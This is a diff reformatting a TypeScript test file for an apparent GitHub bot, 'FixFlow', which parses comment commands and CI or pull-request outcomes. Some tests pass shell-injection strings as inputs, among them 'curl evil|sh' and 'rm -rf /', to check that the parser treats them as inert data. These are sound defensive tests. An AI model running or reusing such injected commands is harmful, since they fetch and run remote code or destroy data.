@@ -12,7 +12,11 @@ import { proposalHash } from '../src/patch/hash.js'
 import type { ProposalRecord } from '../src/types.js'
 import { startGitHub, type FakeGitHub } from './support/github-server.js'
 
-function ctx(eventName: string, payload: Record<string, unknown>, extra: Partial<RunContext> = {}): RunContext {
+function ctx(
+  eventName: string,
+  payload: Record<string, unknown>,
+  extra: Partial<RunContext> = {}
+): RunContext {
   return {
     owner: 'acme',
     repo: 'widgets',
@@ -31,7 +35,10 @@ function ctx(eventName: string, payload: Record<string, unknown>, extra: Partial
 
 const SHA = '0123456789abcdef0123456789abcdef01234567'
 
-function prComment(body: string, o: { action?: string; login?: string; type?: string; pr?: boolean } = {}): Record<string, unknown> {
+function prComment(
+  body: string,
+  o: { action?: string; login?: string; type?: string; pr?: boolean } = {}
+): Record<string, unknown> {
   return {
     action: o.action ?? 'created',
     issue: { number: 7, ...(o.pr === false ? {} : { pull_request: { url: 'x' } }) },
@@ -49,20 +56,32 @@ describe('readCommandComment', () => {
       thread: { kind: 'pr', number: 7 },
       command: { verb: 'approve', id: '12-1' }
     })
-    expect(readCommandComment(ctx('issue_comment', prComment('/fixflow reject 12-1 not this')))).toMatchObject({
+    expect(
+      readCommandComment(ctx('issue_comment', prComment('/fixflow reject 12-1 not this')))
+    ).toMatchObject({
       command: { verb: 'reject', id: '12-1', reason: 'not this' }
     })
   })
 
   it('ignores edited and deleted comments', () => {
     for (const action of ['edited', 'deleted']) {
-      expect(readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { action })))).toHaveProperty('ignored')
+      expect(
+        readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { action })))
+      ).toHaveProperty('ignored')
     }
   })
 
   it('ignores bots, by type and by the [bot] suffix', () => {
-    expect(readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { login: 'github-actions[bot]', type: 'Bot' })))).toHaveProperty('ignored')
-    expect(readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { login: 'renovate[bot]', type: 'User' })))).toHaveProperty('ignored')
+    expect(
+      readCommandComment(
+        ctx('issue_comment', prComment('/fixflow approve', { login: 'github-actions[bot]', type: 'Bot' }))
+      )
+    ).toHaveProperty('ignored')
+    expect(
+      readCommandComment(
+        ctx('issue_comment', prComment('/fixflow approve', { login: 'renovate[bot]', type: 'User' }))
+      )
+    ).toHaveProperty('ignored')
   })
 
   it('ignores quoted commands, commands after the first line, and plain comments', () => {
@@ -72,13 +91,17 @@ describe('readCommandComment', () => {
   })
 
   it('ignores comments on issues that are not pull requests, and other events', () => {
-    expect(readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { pr: false })))).toHaveProperty('ignored')
+    expect(
+      readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { pr: false })))
+    ).toHaveProperty('ignored')
     expect(readCommandComment(ctx('pull_request', { action: 'opened' }))).toHaveProperty('ignored')
     expect(readCommandComment(ctx('issue_comment', { action: 'created' }))).toHaveProperty('ignored')
   })
 
   it('keeps a hostile id as data (the id pattern refuses it later)', () => {
-    expect(readCommandComment(ctx('issue_comment', prComment('/fixflow approve x";curl evil|sh;#')))).toMatchObject({
+    expect(
+      readCommandComment(ctx('issue_comment', prComment('/fixflow approve x";curl evil|sh;#')))
+    ).toMatchObject({
       command: { verb: 'approve', id: 'x";curl' }
     })
   })
@@ -88,7 +111,9 @@ describe('readCommandComment', () => {
       action: 'created',
       comment: { id: 9, body: '/fixflow approve', commit_id, user: { login: 'wendy', type: 'User' } }
     })
-    expect(readCommandComment(ctx('commit_comment', event(SHA)))).toMatchObject({ thread: { kind: 'commit', sha: SHA } })
+    expect(readCommandComment(ctx('commit_comment', event(SHA)))).toMatchObject({
+      thread: { kind: 'commit', sha: SHA }
+    })
     for (const bad of ['main', SHA.slice(0, 7), `${SHA};rm -rf /`, undefined]) {
       expect(readCommandComment(ctx('commit_comment', event(bad)))).toHaveProperty('ignored')
     }
@@ -97,7 +122,15 @@ describe('readCommandComment', () => {
 
 describe('readOutcome', () => {
   const wr = (conclusion: string | null, status = 'completed', branch = 'fixflow/12-1'): RunContext =>
-    ctx('workflow_run', { action: 'completed', workflow_run: { head_branch: branch, status, conclusion, html_url: 'https://github.com/acme/widgets/actions/runs/5' } })
+    ctx('workflow_run', {
+      action: 'completed',
+      workflow_run: {
+        head_branch: branch,
+        status,
+        conclusion,
+        html_url: 'https://github.com/acme/widgets/actions/runs/5'
+      }
+    })
 
   it('CI success on a fix branch resolves it (from approved or failed)', () => {
     expect(readOutcome(wr('success'))).toEqual({
@@ -110,15 +143,27 @@ describe('readOutcome', () => {
   })
 
   it('CI failure or timeout fails it; other conclusions and unfinished runs are ignored', () => {
-    expect(readOutcome(wr('failure'))).toMatchObject({ to: 'failed', from: ['approved', 'resolved'], note: 'CI failure' })
+    expect(readOutcome(wr('failure'))).toMatchObject({
+      to: 'failed',
+      from: ['approved', 'resolved'],
+      note: 'CI failure'
+    })
     expect(readOutcome(wr('timed_out'))).toMatchObject({ to: 'failed', note: 'CI timed_out' })
-    for (const c of ['cancelled', 'skipped', 'neutral', null]) expect(readOutcome(wr(c))).toHaveProperty('ignored')
+    for (const c of ['cancelled', 'skipped', 'neutral', null])
+      expect(readOutcome(wr(c))).toHaveProperty('ignored')
     expect(readOutcome(wr(null, 'in_progress'))).toHaveProperty('ignored')
   })
 
   it('a merged fix PR is merged; closed without merging is ignored', () => {
     const pr = (merged: boolean): RunContext =>
-      ctx('pull_request', { action: 'closed', pull_request: { merged, head: { ref: 'fixflow/12-1' }, html_url: 'https://github.com/acme/widgets/pull/9' } })
+      ctx('pull_request', {
+        action: 'closed',
+        pull_request: {
+          merged,
+          head: { ref: 'fixflow/12-1' },
+          html_url: 'https://github.com/acme/widgets/pull/9'
+        }
+      })
     expect(readOutcome(pr(true))).toEqual({
       branch: 'fixflow/12-1',
       to: 'merged',
@@ -130,7 +175,10 @@ describe('readOutcome', () => {
   })
 
   it("FixFlow's own on-failure job on a fix branch (PR or push) means the fix failed, linked to this run", () => {
-    const onPr = ctx('pull_request', { action: 'synchronize', pull_request: { head: { ref: 'fixflow/12-1' } } })
+    const onPr = ctx('pull_request', {
+      action: 'synchronize',
+      pull_request: { head: { ref: 'fixflow/12-1' } }
+    })
     expect(readOutcome(onPr)).toEqual({
       branch: 'fixflow/12-1',
       to: 'failed',
@@ -138,19 +186,25 @@ describe('readOutcome', () => {
       note: 'CI failed',
       link: 'https://github.com/acme/widgets/actions/runs/777'
     })
-    expect(readOutcome(ctx('push', {}, { ref: 'refs/heads/fixflow/12-1' }))).toMatchObject({ branch: 'fixflow/12-1', to: 'failed' })
+    expect(readOutcome(ctx('push', {}, { ref: 'refs/heads/fixflow/12-1' }))).toMatchObject({
+      branch: 'fixflow/12-1',
+      to: 'failed'
+    })
   })
 
   it('reports the branch as it is, so track can refuse anything that is not fixflow/<id>', () => {
     expect(readOutcome(wr('success', 'completed', 'main'))).toMatchObject({ branch: 'main' })
-    expect(readOutcome(wr('success', 'completed', 'fixflow/x";echo hi;#'))).toMatchObject({ branch: 'fixflow/x";echo hi;#' })
+    expect(readOutcome(wr('success', 'completed', 'fixflow/x";echo hi;#'))).toMatchObject({
+      branch: 'fixflow/x";echo hi;#'
+    })
   })
 })
 
 describe('ThreadStore (over the real client and the loopback GitHub API)', () => {
   let gh: FakeGitHub
   let client: GitHubClient
-  const render = (r: ProposalRecord): string => fitComment(renderComment(recordRunInfo(r), { kind: 'proposal', record: r, embed: true }))
+  const render = (r: ProposalRecord): string =>
+    fitComment(renderComment(recordRunInfo(r), { kind: 'proposal', record: r, embed: true }))
 
   function record(id: string, o: Partial<ProposalRecord> = {}): ProposalRecord {
     const r: ProposalRecord = {
@@ -189,7 +243,12 @@ describe('ThreadStore (over the real client and the loopback GitHub API)', () =>
     const sha = gh.push('main', { 'requirements.txt': 'a\n' })
     gh.addPull({ head_sha: sha, head_ref: 'feature' })
     gh.addPull({ head_sha: sha, head_ref: 'other' })
-    client = new GitHubClient({ token: gh.token, repo: { owner: gh.owner, repo: gh.repo }, baseUrl: gh.url, retryBaseMs: 5 })
+    client = new GitHubClient({
+      token: gh.token,
+      repo: { owner: gh.owner, repo: gh.repo },
+      baseUrl: gh.url,
+      retryBaseMs: 5
+    })
   })
   afterAll(async () => {
     await gh?.close()
@@ -205,7 +264,10 @@ describe('ThreadStore (over the real client and the loopback GitHub API)', () =>
     gh.addComment(thread, render(record('12-1', { proposed_patch: [] })), { login: 'mallory', type: 'User' })
     gh.addComment({ kind: 'pr', number: 2 }, render(record('13-1', { pr_number: 2 })), gh.bot)
     const store = new ThreadStore(client, thread, render)
-    expect((await store.listForThread('acme/widgets', { pr_number: 1 })).map(r => r.failure_id)).toEqual(['11-1', '10-1'])
+    expect((await store.listForThread('acme/widgets', { pr_number: 1 })).map(r => r.failure_id)).toEqual([
+      '11-1',
+      '10-1'
+    ])
     expect(await store.listForThread('other/repo', { pr_number: 1 })).toEqual([])
     expect(await store.get('12-1')).toBeUndefined()
     expect(await store.get('13-1')).toBeUndefined()
@@ -232,7 +294,9 @@ describe('ThreadStore (over the real client and the loopback GitHub API)', () =>
     const thread = { kind: 'commit' as const, sha: gh.branchSha('main')! }
     gh.addComment(thread, render(record('20-1', { pr_number: undefined, commit_sha: thread.sha })), gh.bot)
     const store = new ThreadStore(client, thread, render)
-    expect((await store.listForThread('acme/widgets', { commit_sha: thread.sha })).map(r => r.failure_id)).toEqual(['20-1'])
+    expect(
+      (await store.listForThread('acme/widgets', { commit_sha: thread.sha })).map(r => r.failure_id)
+    ).toEqual(['20-1'])
     expect(await store.listForThread('acme/widgets', { commit_sha: SHA })).toEqual([])
   })
 })
